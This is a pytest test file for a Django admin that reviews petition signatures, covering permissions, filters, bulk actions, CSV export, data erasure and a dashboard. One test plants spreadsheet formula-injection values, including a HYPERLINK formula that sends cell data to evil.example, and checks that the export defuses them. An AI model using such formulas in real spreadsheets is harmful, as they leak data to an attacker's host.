"""The admin as a review tool: columns, filters, search, every action, permissions, the dashboard, the reviewers."""

from __future__ import annotations

import csv
import html
import io
import logging
import re
from datetime import timedelta

import pytest
from django.apps import apps
from django.contrib.auth.models import Group, Permission, User
from django.contrib.messages import get_messages
from django.core import mail
from django.core.management.sql import emit_post_migrate_signal
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from petition_widget import confirmation, lifecycle
from petition_widget.lifecycle import erase
from petition_widget.models import (
    ForwardAttempt,
    ForwardingState,
    Outcome,
    Petition,
    Provider,
    Signature,
    recount_signatures,
)
from tests.factories import make_signature
from tests.forwarding_support import counters

SIGNATURES = "/admin/petition_widget/signature/"
PETITIONS = "/admin/petition_widget/petition/"
DASHBOARD = SIGNATURES + "dashboard/"
REVIEWER_GROUP = "Petition reviewers"
REVIEWER_PERMISSIONS = {
    ("petition_widget", "view_petition"),
    ("petition_widget", "view_signature"),
    ("petition_widget", "view_forwardattempt"),
    ("petition_widget", "retry_signature"),
}
EXPORT_HEADER = [
    "id",
    "petition",
    "provider",
    "first_name",
    "last_name",
    "email",
    "phone",
    "address",
    "city",
    "region",
    "postal_code",
    "country",
    "hidden",
    "signup",
    "reason",
    "state",
    "attempts",
    "created",
    "forwarded",
    "confirmed",
]


def make(petition: Petition, email: str, *, created_at=None, **fields) -> Signature:
    """A stored signature without a postal code (not counted: run recount_signatures), optionally signed at
    ``created_at``."""
    return make_signature(petition, signed_at=created_at, **{"postal_code": "", **fields, "email": email})


def listed(client: Client, **params) -> set[int]:
    """The primary keys of the signatures the changelist shows with these query parameters."""
    response = client.get(SIGNATURES, params)
    assert response.status_code == 200
    return {int(pk) for pk in re.findall(r'name="_selected_action" value="(\d+)"', response.content.decode())}


def act(client: Client, action: str, objects, **extra) -> tuple:
    """POST an action on the signatures changelist, following the redirect; (response, messages)."""
    data = {"action": action, "_selected_action": [o.pk for o in objects], **extra}
    response = client.post(SIGNATURES, data, follow=True)
    assert response.status_code == 200
    return response, [str(m) for m in get_messages(response.wsgi_request)]


def action_values(page: str) -> set[str]:
    select = re.search(r'<select name="action".*?</select>', page, re.S)
    assert select, "the changelist has an action menu"
    return set(re.findall(r'<option value="([^"]+)"', select.group(0)))


# -- the reviewer group ----------------------------------------------------------------------------------


def group_permissions(name: str = REVIEWER_GROUP) -> set[tuple[str, str]]:
    return set(Group.objects.get(name=name).permissions.values_list("content_type__app_label", "codename"))


def test_migrate_creates_the_reviewer_group_with_exactly_its_permissions(db):
    assert group_permissions() == REVIEWER_PERMISSIONS


def test_the_reviewer_group_is_only_ever_added_to(db):
    group = Group.objects.get(name=REVIEWER_GROUP)
    export = Permission.objects.get(content_type__app_label="petition_widget", codename="export_signature")
    retry = Permission.objects.get(content_type__app_label="petition_widget", codename="retry_signature")
    group.permissions.add(export)
    group.permissions.remove(retry)

    emit_post_migrate_signal(verbosity=0, interactive=False, db="default")

    assert group_permissions() == REVIEWER_PERMISSIONS | {("petition_widget", "export_signature")}
    assert Group.objects.filter(name=REVIEWER_GROUP).count() == 1


def test_the_reviewer_group_follows_the_setting(db, settings):
    Group.objects.filter(name=REVIEWER_GROUP).delete()
    settings.PETITION_WIDGET = {"REVIEWER_GROUP": ""}
    emit_post_migrate_signal(verbosity=0, interactive=False, db="default")
    assert not Group.objects.exists()

    settings.PETITION_WIDGET = {"REVIEWER_GROUP": "Moderators"}
    emit_post_migrate_signal(verbosity=0, interactive=False, db="default")
    assert list(Group.objects.values_list("name", flat=True)) == ["Moderators"]
    assert group_permissions("Moderators") == REVIEWER_PERMISSIONS


def test_the_reviewer_group_is_created_whatever_the_order_of_the_apps(db):
    """The handler creates the permissions itself when django.contrib.auth has not done it yet."""
    Group.objects.filter(name=REVIEWER_GROUP).delete()
    Permission.objects.filter(content_type__app_label="petition_widget").delete()
    from petition_widget.apps import create_reviewer_group

    create_reviewer_group(apps.get_app_config("petition_widget"), verbosity=0)

    assert group_permissions() == REVIEWER_PERMISSIONS


# -- the signatures changelist and change page ----------------------------------------------------------


def test_changelist_columns(admin_client, petition):
    error = "HTTP 500 upstream failure: " + "the server said something long and unhelpful " * 5
    failed = make(petition, "ada@example.org", state=ForwardingState.FAILED, attempts=10, last_error=error)
    sent = make(
        petition,
        "grace@example.org",
        first_name="Grace",
        last_name="Hopper",
        country_code="FR",
        state=ForwardingState.SENT,
        forwarded_at=timezone.now(),
    )

    page = admin_client.get(SIGNATURES).content.decode()

    assert re.search(
        r'<span class="pw-state pw-state-failed" style="background-color: #b91c1c;[^"]*">Failed</span>', page
    )
    assert re.search(r'<span class="pw-state pw-state-sent" style="background-color: #15803d;[^"]*">Sent</span>', page)
    shortened = re.search(rf'<span title="{re.escape(html.escape(error))}"[^>]*>([^<]*)</span>', page)
    assert shortened, "the full error is in the title"
    assert len(shortened.group(1)) == 80 and shortened.group(1).endswith("…")
    assert error.startswith(shortened.group(1)[:-1])
    assert '<abbr title="France">FR</abbr>' in page and '<abbr title="United Kingdom">GB</abbr>' in page
    assert "Grace Hopper" in page and "Save the bees" in page
    assert {failed.pk, sent.pk} == listed(admin_client)
    assert f'href="{DASHBOARD}"' in page


def test_change_page_shows_the_confirmation_and_erasure_times_never_the_address_hash(admin_client, petition):
    now = timezone.now()
    signature = make(
        petition,
        "ada@example.org",
        state=ForwardingState.SENT,
        ip_hash="f00dfeedcafe1234",
        confirmation_sent_at=now,
        confirmed_at=now,
        finished_at=now,
        erased_at=now,
    )
    page = admin_client.get(f"{SIGNATURES}{signature.pk}/change/").content.decode()
    for label in ("Confirmation e-mailed", "Confirmed", "Final state reached", "Contact details erased"):
        assert f"{label}:</label>" in page
    assert 'name="finished_at"' not in page, "read-only"
    assert "f00dfeedcafe1234" not in page and "client address hash" not in page


# -- filters and search -----------------------------------------------------------------------------------


@pytest.fixture
def rows(petition, wtp_petition):
    now = timezone.now()
    ada = make(petition, "ada@example.org", city="London", country_code="GB")
    grace = make(
        petition,
        "grace@example.org",
        first_name="Grace",
        last_name="Hopper",
        city="Paris",
        country_code="FR",
        hidden=True,
        state=ForwardingState.FAILED,
    )
    alan = make(
        wtp_petition,
        "alan@example.org",
        first_name="Alan",
        last_name="Turing",
        city="Berlin",
        country_code="DE",
        state=ForwardingState.SENT,
        created_at=now - timedelta(days=40),
    )
    erased = make(
        wtp_petition, "erase.me@example.org", first_name="Erin", last_name="Rased", city="Rome", country_code=""
    )
    erase(Signature.objects.filter(pk=erased.pk))
    return {"ada": ada.pk, "grace": grace.pk, "alan": alan.pk, "erased": erased.pk}


def test_filter_by_petition(admin_client, rows, wtp_petition):
    assert listed(admin_client, petition__id__exact=wtp_petition.pk) == {rows["alan"], rows["erased"]}


def test_filter_by_state(admin_client, rows):
    assert listed(admin_client, state__exact="failed") == {rows["grace"]}
    assert listed(admin_client, state__exact="cancelled") == {rows["erased"]}


def test_filter_by_country(admin_client, rows):
    page = admin_client.get(SIGNATURES).content.decode()
    assert 'href="?country=FR"' in page and ">France</a>" in page
    assert listed(admin_client, country="FR") == {rows["grace"]}
    assert listed(admin_client, country="DE") == {rows["alan"]}


def test_filter_by_date(admin_client, rows):
    page = admin_client.get(SIGNATURES).content.decode()
    link = re.search(r'<a href="\?([^"]*)">Past 7 days</a>', page)
    assert link, "the date filter offers the past seven days"
    query = html.unescape(link.group(1))
    response = admin_client.get(f"{SIGNATURES}?{query}")
    found = {int(pk) for pk in re.findall(r'name="_selected_action" value="(\d+)"', response.content.decode())}
    assert found == {rows["ada"], rows["grace"], rows["erased"]}


def test_date_hierarchy(admin_client, rows):
    old = Signature.objects.get(pk=rows["alan"]).created_at
    assert listed(admin_client, created_at__year=old.year, created_at__month=old.month) == {rows["alan"]}


def test_filter_hidden(admin_client, rows):
    assert listed(admin_client, hidden__exact=1) == {rows["grace"], rows["erased"]}
    assert listed(admin_client, hidden__exact=0) == {rows["ada"], rows["alan"]}


def test_filter_erased(admin_client, rows):
    assert listed(admin_client, erased="yes") == {rows["erased"]}
    assert listed(admin_client, erased="no") == {rows["ada"], rows["grace"], rows["alan"]}


@pytest.mark.parametrize(
    "query, expected",
    [
        ("hopper", {"grace"}),  # last name
        ("Alan", {"alan"}),  # first name
        ("ada@example", {"ada"}),  # e-mail
        ("GRACE@EXAMPLE.ORG", {"grace"}),  # e-mail, whatever its case
        ("berlin", {"alan"}),  # city
        ("Erin", set()),  # an erased name is gone
        ("erase.me", set()),  # and so is an erased address
    ],
)
def test_search(admin_client, rows, query, expected):
    assert listed(admin_client, q=query) == {rows[name] for name in expected}


# -- actions ----------------------------------------------------------------------------------------------


def test_retry_leaves_erased_signatures_alone(admin_client, petition):
    failed = make(petition, "ada@example.org", state=ForwardingState.FAILED, attempts=10, finished_at=timezone.now())
    purged = make(petition, "bob@example.org", state=ForwardingState.FAILED, attempts=10, finished_at=timezone.now())
    Signature.objects.filter(pk=purged.pk).update(email="", erased_at=timezone.now())

    _response, messages = act(admin_client, "retry_now", [failed, purged])

    failed.refresh_from_db()
    purged.refresh_from_db()
    assert (failed.state, failed.attempts, failed.finished_at) == (ForwardingState.PENDING, 0, None)
    assert (purged.state, purged.attempts) == (ForwardingState.FAILED, 10) and purged.finished_at is not None
    assert messages[0].startswith("1 signature is due now")
    assert messages[0].endswith(
        "1 was left alone (sent, being sent, cancelled, spam, awaiting confirmation or erased)."
    )


def test_mark_as_spam(admin_client, petition):
    now = timezone.now()
    pending = make(petition, "p@example.org", next_attempt_at=now)
    sent = make(petition, "s@example.org", state=ForwardingState.SENT, forwarded_at=now, finished_at=now)
    unconfirmed = make(petition, "u@example.org", state=ForwardingState.UNCONFIRMED)
    abandoned = make(
        petition,
        "a@example.org",
        state=ForwardingState.SENDING,
        leased_by="dead-worker",
        lease_expires_at=now - timedelta(minutes=5),
    )
    in_flight = make(
        petition,
        "f@example.org",
        state=ForwardingState.SENDING,
        leased_by="live-worker",
        lease_expires_at=now + timedelta(minutes=5),
    )
    hidden = make(petition, "h@example.org", hidden=True, state=ForwardingState.HELD)
    recount_signatures()
    assert counters(petition) == (5, 4)  # the unconfirmed one does not count; the hidden one is not listed
    assert {pending.pk, abandoned.pk} <= set(lifecycle.due().values_list("pk", flat=True))

    _response, messages = act(admin_client, "mark_as_spam", [pending, sent, unconfirmed, abandoned, in_flight, hidden])

    for signature in (pending, sent, unconfirmed, abandoned, hidden):
        signature.refresh_from_db()
        assert signature.state == ForwardingState.SPAM
        assert (signature.next_attempt_at, signature.lease_expires_at, signature.leased_by) == (None, None, "")
        assert signature.finished_at >= now
    in_flight.refresh_from_db()
    assert (in_flight.state, in_flight.leased_by) == (ForwardingState.SENDING, "live-worker")
    assert counters(petition) == (1, 1)  # only the one in flight still counts
    assert not set(lifecycle.due(now + timedelta(hours=1)).values_list("pk", flat=True)) - {in_flight.pk}
    assert messages == [
        "5 signatures marked as spam: they will never be forwarded, no longer count and are not listed. 1 of them "
        "had already reached the platform, which keeps it. 1 was left alone (already spam, or being sent right "
        "now: try again in a minute)."
    ]

    _response, messages = act(admin_client, "mark_as_spam", [pending])
    assert messages[0].startswith("0 signatures marked as spam") and "1 was left alone" in messages[0]


def test_export_csv(admin_client, petition, wtp_petition, caplog):
    confirmed_at = timezone.now() - timedelta(hours=2)
    ada = make(
        petition,
        "ada@example.org",
        phone="+44 20 7946 0000",
        address="12 St James's Square",
        state_province="London",
        postal_code="SW1Y 4JH",
        reason="Bees matter, a=b",
        state=ForwardingState.SENT,
        attempts=1,
        forwarded_at=timezone.now(),
        confirmed_at=confirmed_at,
    )
    grace = make(wtp_petition, "grace@example.org", first_name="Grace", last_name="Hopper", hidden=True, signup=True)
    make(petition, "not-selected@example.org")
    admin = User.objects.get(username="admin")

    with caplog.at_level(logging.INFO, logger="petition_widget"):
        response = admin_client.post(SIGNATURES, {"action": "export_csv", "_selected_action": [ada.pk, grace.pk]})
        assert isinstance(response, StreamingHttpResponse)
        body = b"".join(response.streaming_content).decode()

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="signatures-\d{8}-\d{6}\.csv"', response["Content-Disposition"])
    table = list(csv.reader(io.StringIO(body)))
    assert table[0] == EXPORT_HEADER
    exported = {row[0]: dict(zip(EXPORT_HEADER, row, strict=True)) for row in table[1:]}
    assert set(exported) == {str(ada.pk), str(grace.pk)}
    assert exported[str(ada.pk)] == {
        "id": str(ada.pk),
        "petition": "save-the-bees",
        "provider": "changeorg",
        "first_name": "Ada",
        "last_name": "Lovelace",
        "email": "ada@example.org",
        "phone": "'+44 20 7946 0000",
        "address": "12 St James's Square",
        "city": "London",
        "region": "London",
        "postal_code": "SW1Y 4JH",
        "country": "GB",
        "hidden": "no",
        "signup": "no",
        "reason": "Bees matter, a=b",
        "state": "sent",
        "attempts": "1",
        "created": timezone.localtime(ada.created_at).isoformat(timespec="seconds"),
        "forwarded": timezone.localtime(ada.forwarded_at).isoformat(timespec="seconds"),
        "confirmed": timezone.localtime(confirmed_at).isoformat(timespec="seconds"),
    }
    row = exported[str(grace.pk)]
    assert (row["petition"], row["provider"], row["hidden"], row["signup"]) == (
        "fund-libraries",
        "wethepeople",
        "yes",
        "yes",
    )
    assert (row["state"], row["forwarded"], row["confirmed"]) == ("pending", "", "")

    records = [r for r in caplog.records if r.name == "petition_widget.admin"]
    assert [r.getMessage() for r in records] == [f"user {admin.pk} exported 2 signature(s) as CSV"]
    assert not any("@example.org" in r.getMessage() or "Lovelace" in r.getMessage() for r in caplog.records)


def test_export_defuses_formulas(admin_client, petition):
    signature = make(
        petition,
        "ada@example.org",
        first_name="@SUM(A1:A9)",
        last_name="-2",
        city="+1",
        reason='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        address="\t=1+1",
        postal_code="\r=2",
        state_province="Region = fine",
    )
    response = admin_client.post(SIGNATURES, {"action": "export_csv", "_selected_action": [signature.pk]})
    body = b"".join(response.streaming_content).decode()

    header, row = list(csv.reader(io.StringIO(body)))
    values = dict(zip(header, row, strict=True))
    assert values["first_name"] == "'@SUM(A1:A9)"
    assert values["last_name"] == "'-2"
    assert values["city"] == "'+1"
    assert values["reason"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert values["address"] == "'\t=1+1"
    assert values["postal_code"] == "'\r=2"
    assert values["region"] == "Region = fine"
    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_resend_confirmation(admin_client, petition):
    waiting = make(petition, "Ada@Example.org", state=ForwardingState.UNCONFIRMED)
    again = make(petition, "bob@example.org", first_name="Bob", state=ForwardingState.UNCONFIRMED)
    sent = make(petition, "sent@example.org", state=ForwardingState.SENT)
    erased = make(petition, "gone@example.org", state=ForwardingState.UNCONFIRMED)
    Signature.objects.filter(pk=erased.pk).update(erased_at=timezone.now())
    before = timezone.now()

    _response, messages = act(admin_client, "resend_confirmation", [waiting, again, sent, erased])

    assert messages == [
        "Confirmation e-mails sent again for 2 signatures. 2 were skipped: they are not awaiting confirmation."
    ]
    assert sorted(m.to for m in mail.outbox) == [["Ada@Example.org"], ["bob@example.org"]]
    for message in mail.outbox:
        signature = waiting if message.to == ["Ada@Example.org"] else again
        links = re.findall(r"(http://127\.0\.0\.1:8000/petitions/confirm/([^/\s]+)/)", message.body)
        assert len(links) == 1
        assert confirmation.find_signature(links[0][1]) == signature
        signature.refresh_from_db()
        assert signature.confirmation_sent_at >= before and signature.state == ForwardingState.UNCONFIRMED
    sent.refresh_from_db()
    erased.refresh_from_db()
    assert sent.confirmation_sent_at is None and erased.confirmation_sent_at is None


def test_resend_confirmation_reports_a_refusing_mail_server(admin_client, petition, settings, caplog):
    settings.EMAIL_BACKEND = "tests.signing.test_confirmation.RefusingBackend"
    waiting = make(petition, "ada@example.org", state=ForwardingState.UNCONFIRMED)

    response = admin_client.post(
        SIGNATURES, {"action": "resend_confirmation", "_selected_action": [waiting.pk]}, follow=True
    )

    assert [(m.level_tag, str(m)) for m in get_messages(response.wsgi_request)] == [
        (
            "error",
            "Confirmation e-mails sent again for 0 signatures. 1 could not be sent (the mail server refused it; the "
            "log names the signature).",
        )
    ]
    assert mail.outbox == []
    waiting.refresh_from_db()
    assert waiting.confirmation_sent_at is None
    assert f"signature {waiting.pk} could not be sent: SMTPRecipientsRefused" in caplog.text
    assert "ada@example.org" not in caplog.text


def test_erase_personal_data_asks_first_then_erases(admin_client, petition):
    pending = make(
        petition,
        "ada@example.org",
        phone="+44 20 7946 0000",
        address="12 St James's Square",
        postal_code="SW1Y 4JH",
        state_province="London",
        reason="Bees",
        ip_hash="abc123",
    )
    sent = make(
        petition, "grace@example.org", first_name="Grace", last_name="Hopper", city="Paris", state=ForwardingState.SENT
    )
    kept = make(petition, "kept@example.org", first_name="Kept")
    recount_signatures()
    assert counters(petition) == (3, 3)

    response = admin_client.post(
        SIGNATURES, {"action": "erase_personal_data", "_selected_action": [pending.pk, sent.pk]}
    )

    assert response.status_code == 200
    page = response.content.decode()
    assert "Erase personal data?" in page and "ada@example.org" in page and "grace@example.org" in page
    assert "1 of them has not been sent yet" in page
    assert page.count('name="_selected_action"') == 2 and 'name="post" value="yes"' in page
    assert Signature.objects.filter(erased_at__isnull=False).count() == 0
    assert counters(petition) == (3, 3)

    before = timezone.now()
    _response, messages = act(admin_client, "erase_personal_data", [pending, sent], post="yes")

    for signature in (pending, sent):
        signature.refresh_from_db()
        blank = ("first_name", "last_name", "email", "phone", "address", "city", "state_province", "postal_code")
        assert all(getattr(signature, name) == "" for name in (*blank, "reason", "ip_hash"))
        assert signature.email_normalized == f"erased:{signature.pk}"
        assert signature.hidden and signature.erased_at >= before
    assert pending.state == ForwardingState.CANCELLED and pending.finished_at >= before
    assert sent.state == ForwardingState.SENT
    kept.refresh_from_db()
    assert (kept.first_name, kept.erased_at) == ("Kept", None)
    assert counters(petition) == (2, 1)  # the cancelled one stops counting; the sent one counts, unlisted
    assert messages == [
        "Erased the personal data of 2 signatures: names, e-mails, phones, street addresses, cities, regions, "
        "postal codes, reasons and client address hashes are blank, and they are hidden from the public list. "
        "1 of them had not been sent and was cancelled, so it will not be forwarded. What the platform already "
        "received must be erased there."
    ]


# -- permissions: a reviewer -------------------------------------------------------------------------------


def test_reviewer_sees_the_list_and_the_dashboard_and_the_safe_actions_only(reviewer_client, petition):
    make(petition, "ada@example.org", state=ForwardingState.FAILED)
    page = reviewer_client.get(SIGNATURES).content.decode()
    assert action_values(page) == {
        "retry_now",
        "cancel_forwarding",
        "mark_as_spam",
        "not_spam",
        "resend_confirmation",
        "confirm_on_behalf",
    }
    assert reviewer_client.get(DASHBOARD).status_code == 200
    assert reviewer_client.get(PETITIONS).status_code == 200


def test_superuser_has_every_action(admin_client, petition):
    make(petition, "ada@example.org")
    page = admin_client.get(SIGNATURES).content.decode()
    assert action_values(page) == {
        "retry_now",
        "cancel_forwarding",
        "mark_as_spam",
        "not_spam",
        "resend_confirmation",
        "confirm_on_behalf",
        "export_csv",
        "erase_personal_data",
        "delete_selected",
    }


def test_reviewer_can_retry(reviewer_client, petition):
    failed = make(petition, "ada@example.org", state=ForwardingState.FAILED, attempts=10)
    _response, messages = act(reviewer_client, "retry_now", [failed])
    failed.refresh_from_db()
    assert (failed.state, failed.attempts) == (ForwardingState.PENDING, 0)
    assert messages[0].startswith("1 signature is due now")


def test_reviewer_cannot_export(reviewer_client, petition):
    signature = make(petition, "ada@example.org")
    response = reviewer_client.post(SIGNATURES, {"action": "export_csv", "_selected_action": [signature.pk]})
    assert not isinstance(response, StreamingHttpResponse)
    assert response.status_code == 302 and response["Location"] == SIGNATURES
    assert "text/csv" not in response.get("Content-Type", "")
    assert [str(m) for m in get_messages(response.wsgi_request)] == ["No action selected."]


def test_reviewer_cannot_erase(reviewer_client, petition):
    signature = make(petition, "ada@example.org")
    for extra in ({}, {"post": "yes"}):
        response = reviewer_client.post(
            SIGNATURES, {"action": "erase_personal_data", "_selected_action": [signature.pk], **extra}
        )
        assert response.status_code == 302 and response["Location"] == SIGNATURES
    signature.refresh_from_db()
    assert (signature.first_name, signature.email, signature.state, signature.erased_at) == (
        "Ada",
        "ada@example.org",
        ForwardingState.PENDING,
        None,
    )


def test_reviewer_cannot_edit_a_signature(reviewer_client, petition):
    signature = make(petition, "ada@example.org")
    page = reviewer_client.get(f"{SIGNATURES}{signature.pk}/change/").content.decode()
    assert 'name="first_name"' not in page
    response = reviewer_client.post(f"{SIGNATURES}{signature.pk}/change/", {"first_name": "Eve"})
    assert response.status_code == 403
    signature.refresh_from_db()
    assert signature.first_name == "Ada"


def test_contact_details_are_shown_only_to_who_may_change_or_export_signatures(
    reviewer, reviewer_client, admin_client, petition
):
    signature = make(
        petition, "ada@example.org", phone="+442071838750", address="10 Downing Street", postal_code="SW1A 2AA"
    )
    url = f"{SIGNATURES}{signature.pk}/change/"
    contact = ("ada@example.org", "+442071838750", "10 Downing Street", "SW1A 2AA")
    page = reviewer_client.get(url).content.decode()
    assert "Lovelace" in page and "London" in page
    assert [value for value in contact if value in page] == []
    admin_page = admin_client.get(url).content.decode()
    assert [value for value in contact if value in admin_page] == list(contact)
    # Granted export, a reviewer sees them too.
    reviewer.user_permissions.add(Permission.objects.get(codename="export_signature"))
    granted = Client()
    granted.force_login(reviewer)
    assert [value for value in contact if value in granted.get(url).content.decode()] == list(contact)


def test_export_permission_granted_to_a_reviewer(reviewer, reviewer_client, petition):
    signature = make(petition, "ada@example.org")
    reviewer.user_permissions.add(Permission.objects.get(codename="export_signature"))
    response = reviewer_client.post(SIGNATURES, {"action": "export_csv", "_selected_action": [signature.pk]})
    assert isinstance(response, StreamingHttpResponse)
    assert "ada@example.org" in b"".join(response.streaming_content).decode()


def test_staff_without_view_permission_gets_no_dashboard(petition):
    staff = User.objects.create_user("staff", password="pw", is_staff=True)
    client = Client()
    client.force_login(staff)
    assert client.get(DASHBOARD).status_code == 403
    anonymous = Client().get(DASHBOARD)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/admin/login/")


# -- the petitions changelist ------------------------------------------------------------------------------


def test_petition_list_counts_per_state(admin_client, petition, wtp_petition):
    make(petition, "a@example.org")
    make(petition, "b@example.org", next_attempt_at=timezone.now() + timedelta(hours=1))
    make(petition, "c@example.org", state=ForwardingState.SENT)
    make(petition, "d@example.org", state=ForwardingState.SPAM)
    make(wtp_petition, "e@example.org", state=ForwardingState.UNCONFIRMED)

    page = admin_client.get(PETITIONS).content.decode()

    def badge(on: Petition, state: str) -> str | None:
        """The text of the badge linking to the petition's signatures in this state, if there is one."""
        url = html.escape(f"{SIGNATURES}?petition__id__exact={on.pk}&state__exact={state}")
        found = re.search(
            rf'<a href="{re.escape(url)}"><span class="pw-state pw-state-{state}"[^>]*>([^<]*)</span>', page
        )
        return found and found.group(1)

    assert badge(petition, "pending") == "Pending 2"
    assert badge(petition, "sent") == "Sent 1"
    assert badge(petition, "spam") == "Spam 1"
    assert badge(wtp_petition, "unconfirmed") == "Awaiting confirmation 1"
    assert badge(wtp_petition, "pending") is None
    assert ">250</td>" in page  # the upstream count


def test_petition_list_counts_in_one_query(admin_client, petition):
    make(petition, "a@example.org")

    def queries() -> int:
        with CaptureQueriesContext(connection) as context:
            assert admin_client.get(PETITIONS).status_code == 200
        return len(context.captured_queries)

    one = queries()
    for n in range(3):
        other = Petition.objects.create(provider=Provider.WETHEPEOPLE, upstream_id=str(n), slug=f"p{n}", title=f"P{n}")
        make(other, f"x{n}@example.org", state=ForwardingState.SENT)
    assert queries() == one


def test_require_confirmation_is_editable(admin_client, petition):
    url = f"{PETITIONS}{petition.pk}/change/"
    page = admin_client.get(url).content.decode()
    assert 'name="require_confirmation"' in page
    form = {
        "provider": petition.provider,
        "upstream_id": petition.upstream_id,
        "slug": petition.slug,
        "accepts_signatures": "on",
        "require_confirmation": "on",
        "title": "Save the bees",
        "status": "open",
        "goal": "1000",
        "signature_count": "250",
        "targets": "[]",
    }
    response = admin_client.post(url, form)
    assert response.status_code == 302, response.content.decode()[:2000]
    petition.refresh_from_db()
    assert petition.require_confirmation is True


# -- the dashboard -----------------------------------------------------------------------------------------


@pytest.fixture
def backlog(petition, wtp_petition):
    now = timezone.now()
    rows = {
        "due": make(petition, "due@example.org"),
        "due_past": make(petition, "past@example.org", next_attempt_at=now - timedelta(minutes=1)),
        "later_1": make(petition, "later1@example.org", next_attempt_at=now + timedelta(minutes=10)),
        "later_2": make(petition, "later2@example.org", next_attempt_at=now + timedelta(hours=2)),
        "sending": make(
            petition, "sending@example.org", state=ForwardingState.SENDING, lease_expires_at=now + timedelta(minutes=1)
        ),
        "held": make(petition, "held@example.org", state=ForwardingState.HELD, created_at=now - timedelta(hours=3)),
        "unconfirmed": make(
            petition, "unc@example.org", state=ForwardingState.UNCONFIRMED, created_at=now - timedelta(hours=5)
        ),
        "sent": make(petition, "sent@example.org", state=ForwardingState.SENT, created_at=now - timedelta(hours=10)),
        "failed": make(
            petition, "failed@example.org", state=ForwardingState.FAILED, created_at=now - timedelta(hours=8)
        ),
        "other_due": make(wtp_petition, "o-due@example.org"),
        "other_unconfirmed": make(wtp_petition, "o-unc@example.org", state=ForwardingState.UNCONFIRMED),
    }
    lifecycle.pause_petition(wtp_petition.pk, "HTTP 401 credentials refused: bad key")
    outcomes = [
        (Outcome.SENT, 10),
        (Outcome.DUPLICATE, 5),
        (Outcome.RETRY, 20),
        (Outcome.REJECTED, 30),
        (Outcome.HELD, 50),
        (Outcome.RETRY, 120),  # outside the last hour
    ]
    for outcome, minutes in outcomes:
        ForwardAttempt.objects.create(
            signature=rows["sent"], started_at=now - timedelta(minutes=minutes), duration_ms=10, outcome=outcome
        )
    return rows


def test_dashboard_numbers(admin_client, backlog, petition, wtp_petition):
    response = admin_client.get(DASHBOARD)
    assert response.status_code == 200
    context = response.context

    assert {row["key"]: row["count"] for row in context["backlog"]} == {
        "due_now": 3,
        "scheduled": 2,
        "sending": 1,
        "held": 1,
        "unconfirmed": 2,
    }
    assert context["attempts"] == {"total": 5, "failed": 3}
    assert context["failure_rate"] == 60.0
    assert context["oldest"].pk == backlog["held"].pk and context["oldest"].age == "3\xa0hours"
    assert [p.pk for p in context["paused"]] == [wtp_petition.pk]
    assert [
        (row["petition"].pk, row["due_now"], row["scheduled"], row["sending"], row["held"], row["unconfirmed"])
        for row in context["per_petition"]
    ] == [(petition.pk, 2, 2, 1, 1, 1), (wtp_petition.pk, 1, 0, 0, 0, 1)]

    page = response.content.decode()
    assert re.search(r'data-count="due_now"><a href="[^"]*state__exact=pending">3</a>', page)
    assert re.search(r'data-count="unconfirmed"><a href="[^"]*state__exact=unconfirmed">2</a>', page)
    assert "3 of 5 attempts failed (60.0%)." in page
    assert f'href="{SIGNATURES}{backlog["held"].pk}/change/"' in page and "Signed 3\xa0hours ago, Held" in page
    assert "HTTP 401 credentials refused: bad key" in page
    assert re.search(
        r'<tr data-petition="fund-libraries"><td><a [^>]*>Fund public libraries</a> \(paused\)</td>\s*'
        r"<td>1</td><td>0</td><td>0</td><td>0</td><td>1</td>",
        page,
    )


def test_dashboard_when_all_is_quiet(admin_client, petition):
    make(petition, "sent@example.org", state=ForwardingState.SENT)
    response = admin_client.get(DASHBOARD)
    page = response.content.decode()
    assert {row["count"] for row in response.context["backlog"]} == {0}
    assert response.context["failure_rate"] is None and response.context["oldest"] is None
    assert "No forwarding attempts." in page and "Nothing is waiting to be forwarded." in page
    assert "None: forwarding runs for every petition." in page and "No backlog." in page


def test_dashboard_url_name():
    assert reverse("admin:petition_widget_signature_dashboard") == DASHBOARD
